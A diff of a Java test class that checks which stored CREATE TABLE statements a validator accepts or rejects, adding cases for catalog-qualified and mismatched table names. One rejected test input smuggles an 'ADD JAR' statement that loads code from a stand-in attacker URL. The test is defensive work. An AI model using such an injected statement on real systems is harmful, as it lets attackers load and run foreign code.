@@ -24,6 +24,8 @@ class StoredStatementsTest {
                 DECLARED,
                 "CREATE TABLE IF NOT EXISTS `shop`.`orders` (id BIGINT) WITH ('connector' ="
                         + " 'datagen')",
+                "CREATE TABLE `default_catalog`.`shop`.`orders` (id BIGINT) WITH ('connector' ="
+                        + " 'datagen')",
                 "CREATE TABLE orders (id BIGINT, PRIMARY KEY (id) NOT ENFORCED) WITH"
                         + " ('connector' = 'upsert-kafka', 'topic' = 't')"
             })
@@ -42,6 +44,8 @@ class StoredStatementsTest {
                 DECLARED + "; ADD JAR 'http://attacker.example/evil.jar'",
                 "CREATE TEMPORARY TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen')",
                 "CREATE TABLE shop.payments (id BIGINT) WITH ('connector' = 'datagen')",
+                "CREATE TABLE other.orders (id BIGINT) WITH ('connector' = 'datagen')",
+                "CREATE TABLE cat.shop.orders (id BIGINT) WITH ('connector' = 'datagen')",
                 "CREATE TABLE shop.orders WITH ('connector' = 'datagen') AS SELECT 1 AS id",
                 "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen') LIKE x",
                 "DROP TABLE shop.orders",
